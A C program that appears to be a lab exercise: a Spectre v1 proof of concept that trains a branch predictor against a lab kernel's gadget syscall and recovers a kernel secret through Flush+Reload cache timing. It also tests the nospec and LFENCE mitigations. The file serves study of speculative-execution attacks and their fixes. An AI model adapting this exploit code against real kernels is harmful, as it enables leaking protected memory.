/* spectre_v1.c - Spectre v1 against a system call of the lab kernel
 * (guest/spectre/kernel/student.c, built with `entrysim kernel build`):
 * spectre_gadget(idx, probe, fix) reads lab_array[idx] under a bound
 * check and touches probe[byte * 512].  Trained with in-bounds idx, then
 * called with idx = the secret's offset, the mispredicted check lets the
 * wrong path read the kernel's secret; Flush+Reload on the user's probe
 * array recovers it byte by byte.
 *
 *   spectre_v1           the open gadget: prints the kernel's secret
 *   spectre_v1 nospec    the gadget clamps idx with array_index_nospec
 *   spectre_v1 lfence    the gadget has LFENCE after the check
 * Exits 0 when the recovered string is the secret, 1 otherwise. */
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <x86intrin.h>

#include <errno.h>
#include <unistd.h>

#define NR_SPECTRE_GADGET 333
#define NR_SPECTRE_OFFSET 334
#define LAB_SIZE 16

static uint8_t array2[256 * 512] __attribute__((aligned(4096)));
static const char secret[] = "The kernel's secret"; /* what to compare with */
static long fix;

static void victim(size_t x)
{
    syscall(NR_SPECTRE_GADGET, x, array2, fix);
}

static uint64_t threshold;

static uint64_t probe_time(volatile uint8_t *p)
{
    unsigned aux;
    uint64_t t0 = __rdtscp(&aux);
    (void)*p;
    return __rdtscp(&aux) - t0;
}

/* Halfway between a cached and a flushed line's reload time, as this CPU
 * (or cycle model) measures them. */
static void calibrate(void)
{
    uint64_t hit = 0, miss = 0;
    for (int i = 0; i < 16; i++) {
        volatile uint8_t *p = &array2[i * 512];
        (void)*p;
        hit += probe_time(p);
        _mm_clflush((const void *)p);
        _mm_mfence();
        miss += probe_time(p);
    }
    threshold = (hit + miss) / 32;
}

/* Flush+Reload of one byte at lab_array + x; the value whose line was
 * fastest most often. */
static int read_byte(size_t malicious_x)
{
    int hits[256] = {0};
    for (int tries = 0; tries < 20; tries++) {
        for (int i = 0; i < 256; i++)
            _mm_clflush(&array2[i * 512]);
        size_t training_x = (size_t)tries % LAB_SIZE;
        for (int j = 29; j >= 0; j--) {
            /* x = training_x, except every 6th round malicious_x, without
             * a branch */
            size_t x = ((size_t)(j % 6) - 1) & ~(size_t)0xffff;
            x = (x | (x >> 16));
            x = training_x ^ (x & (malicious_x ^ training_x));
            victim(x);
        }
        for (int i = 0; i < 256; i++) {
            int mix = ((i * 167) + 13) & 255;
            if (probe_time(&array2[mix * 512]) <= threshold && mix != tries % LAB_SIZE + 1)
                hits[mix]++;
        }
    }
    int best = 0;
    for (int i = 1; i < 256; i++)
        if (hits[i] > hits[best])
            best = i;
    return hits[best] ? best : -1;
}

int main(int argc, char **argv)
{
    fix = argc > 1 && !strcmp(argv[1], "nospec") ? 1 : argc > 1 && !strcmp(argv[1], "lfence") ? 2 : 0;
    memset(array2, 1, sizeof array2);
    calibrate();
    long off = syscall(NR_SPECTRE_OFFSET); /* may be negative: lab_secret is below */
    if (off == -1 && errno == ENOSYS) {
        printf("spectre_offset: ENOSYS (not the lab kernel: run with --kernel)\n");
        return 2;
    }
    size_t malicious_x = (size_t)off;
    char got[sizeof secret] = {0};
    for (size_t i = 0; i + 1 < sizeof secret; i++) {
        int v = read_byte(malicious_x + i);
        got[i] = v >= 32 && v < 127 ? (char)v : '?';
    }
    printf("recovered: %s\n", got);
    return strcmp(got, secret) != 0;
}
